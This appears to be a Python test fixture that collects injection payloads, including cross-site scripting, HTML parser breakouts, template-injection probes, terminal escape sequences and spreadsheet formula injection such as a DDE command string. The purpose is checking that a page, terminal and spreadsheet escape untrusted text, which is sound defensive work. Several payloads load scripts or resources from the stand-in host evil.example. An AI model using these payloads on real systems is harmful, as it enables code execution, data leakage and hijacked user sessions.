"""Texts that want to be more than text: one page, one terminal and one spreadsheet meet each.

`HIT` is what a payload does when it runs, `evil.example` is whom it calls; both are watched.
"""

HIT = "window.__hit=1"
EVIL = "http://evil.example"

SCRIPTS = {
    "script": f"<script>{HIT}</script>",
    "script-capital": f"<ScRiPt>{HIT}</sCrIpT>",
    "script-slash": f"<script/x>{HIT}</script/x>",
    "script-src": f"<script src={EVIL}/s.js></script>",
    "script-module": f'<script type="module">{HIT}</script>',
    "script-nested": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script-import": f'<script>import("{EVIL}/m.js")</script>',
    "alert": "<script>alert(1)</script>",
}
HANDLERS = {
    "img-error": f"<img src=x onerror={HIT}>",
    "img-no-quotes": f"<img/src=x/onerror={HIT}//",
    "svg-load": f"<svg onload={HIT}>",
    "svg-slash": f"<svg/onload={HIT}>",
    "body-load": f"<body onload={HIT}>",
    "details-toggle": f"<details open ontoggle={HIT}>x</details>",
    "input-focus": f"<input autofocus onfocus={HIT}>",
    "video-source": f"<video><source onerror={HIT}></video>",
    "marquee": f"<marquee onstart={HIT}>x</marquee>",
    "animation": f"<style>@keyframes a{{}}</style><b style=animation-name:a onanimationstart={HIT}>",
    "handler-entity": "<img src=x onerror=&#119;indow.__hit=1>",
    "handler-null": f"<img src=x on\x00error={HIT}>",
}
FOREIGN = {
    "svg-script": f"<svg><script>{HIT}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    "svg-use": f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    "svg-foreign": f"</text></svg><svg><foreignObject><img src=x onerror={HIT}></foreignObject>",
    "math-link": f'<math><mtext><a href="javascript:{HIT}">x</a></mtext></math>',
    "math-style": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    "svg-title": f"<svg><title><style><img title='</style><img src=x onerror={HIT}>'></svg>",
}
ENDINGS = {
    "end-script": f"</script><script>{HIT}</script>",
    "end-script-space": f"</script ><script>{HIT}//",
    "end-style": f"</style><script>{HIT}</script>",
    "end-title": f"</title><script>{HIT}</script>",
    "end-textarea": f"</textarea><script>{HIT}</script>",
    "end-all": f"</bdi></td></tr></table></main></body></html><script>{HIT}</script>",
    "comment-open": "<!-- nothing from here on is shown",
    "comment-close": f"--><script>{HIT}</script><!--",
    "comment-bang": f"<!--><script>{HIT}</script>--!>",
    "comment-script": f"<!--<script>{HIT}</script>",
    "cdata": f"<![CDATA[<script>{HIT}</script>]]>",
    "plaintext": "<plaintext>all that follows is text",
    "xmp": f"<xmp><noscript></xmp><img src=x onerror={HIT}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "template": f"<template shadowrootmode=open><script>{HIT}</script></template>",
}
BREAKOUTS = {
    "double-quote": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "single-quote": f"' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='",
    "backtick": f"` onfocus={HIT} autofocus x=`",
    "quote-tag": f'"><script>{HIT}</script>',
    "single-quote-tag": f"'><img src=x onerror={HIT}>",
    "js-string": f"';{HIT};//\";{HIT};//\\",
    "json-string": f'"}}]);{HIT};({{"a":["',
    "style-attribute": f'x" style="background:url({EVIL}/c)" y="',
    "clobber": "<a id=readout name=copy></a><form id=commands><input name=hidden></form>",
}
LINKS = {
    "javascript-url": f"javascript:{HIT}",
    "javascript-tab": f"java\tscript:{HIT}",
    "javascript-link": f'<a href="javascript:{HIT}" autofocus>click</a>',
    "data-url": f"data:text/html,<script>{HIT}</script>",
    "data-frame": '<iframe src="data:text/html,<script>parent.__hit=1</script>"></iframe>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="style-src *">',
    "base": f'<base href="{EVIL}/">',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    "image": f'<img src="{EVIL}/pixel.gif">',
    "image-set": f'<img srcset="{EVIL}/pixel.gif 1x">',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "link-style": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "link-prefetch": '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="//evil.example">',
    "font": f'<style>@font-face{{font-family:x;src:url("{EVIL}/f.woff")}}*{{font-family:x}}</style>',
    "css-import": f'<style>@import "{EVIL}/i.css";</style>',
    "css-url": f"*{{background:url({EVIL}/b.png)}}",
    "form": f'<form action="{EVIL}/f"><input name=a><form><button autofocus>go</button></form></form>',
    "bare-link": f"{EVIL}/look?at=me",
}
TEMPLATES = {
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "dollar": "${7*7}`${window.__hit=1}`",
    "angular": "{{constructor.constructor('window.__hit=1')()}}",
    "percent": "%(title)s %s {0} {title!r} $title",
    "php": "<?php echo 1 ?><% out.print(1) %>",
}
ENTITIES = {
    "entity": "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "entity-number": "&#60;script&#62;window.__hit=1&#60;/script&#62;",
    "entity-open": "&lt &amp &copy &notit; &#x3c",
    "double-escape": "&amp;lt;b&amp;gt;",
}
UNICODE = {
    "separators": f"a\u2028{HIT}\u2029b",
    "bom": f"\ufeff<script>{HIT}</script>",
    "bidi": "abc\u202e>tpircs/<1=tih__.wodniw>tpircs<\u202c\u2066x\u2069",
    "full-width": "＜script＞window.__hit=1＜/script＞",
    "zero-width": "pass\u200bword\u2060 soft\u00adhyphen",
    "nul": f"a\x00<\x00script>{HIT}</script>",
    "overlong-marks": "Z" + "\u0301\u0335" * 60,
    "c1": "a\x85b\x9b31mc\x9d0;t\x9c",
    "arabic": "مرحبا <b>بك</b> \u200f(عالم)",
    "tags": "flag \U0001f3f4\U000e0067\U000e007f end",
}
TERMINAL = {
    "ansi": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "osc-title": "\x1b]0;owned\x07",
    "osc-clipboard": "\x1b]52;c;aGk=\x07",
    "osc-link": f"\x1b]8;;{EVIL}/l\x1b\\click\x1b]8;;\x1b\\",
    "overwrite": "FAILED\rPASSED\x08\x08\x7f",
    "dcs": "\x1bP$q\x1b\\\x1b[6n\x1b[?1049h",
    "rich-markup": "[bold red]loud[/] [link=http://evil.example]x[/link] [/]",
}
FORMULAS = {
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": f'@SUM(1+1)*HYPERLINK("{EVIL}","x")',
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-nul": "\x00=1+1",
    "formula-wide": "＝1+1",
    "formula-wide-at": "＠SUM(1)",
    "formula-quote": '";=1+1;"',
    "formula-newline": "a\n=1+1",
}
LARGE = {
    "huge-attribute": f'<a title="{"x" * 20_000}" onfocus={HIT} autofocus>',
    "deep": "<div>" * 2_000 + f"<script>{HIT}</script>",
    "one-word": "w" * 5_000,
    "only-space": " \u00a0\u3000 ",
}

PAYLOADS: dict[str, str] = {
    **SCRIPTS,
    **HANDLERS,
    **FOREIGN,
    **ENDINGS,
    **BREAKOUTS,
    **LINKS,
    **TEMPLATES,
    **ENTITIES,
    **UNICODE,
    **TERMINAL,
    **FORMULAS,
    **LARGE,
}
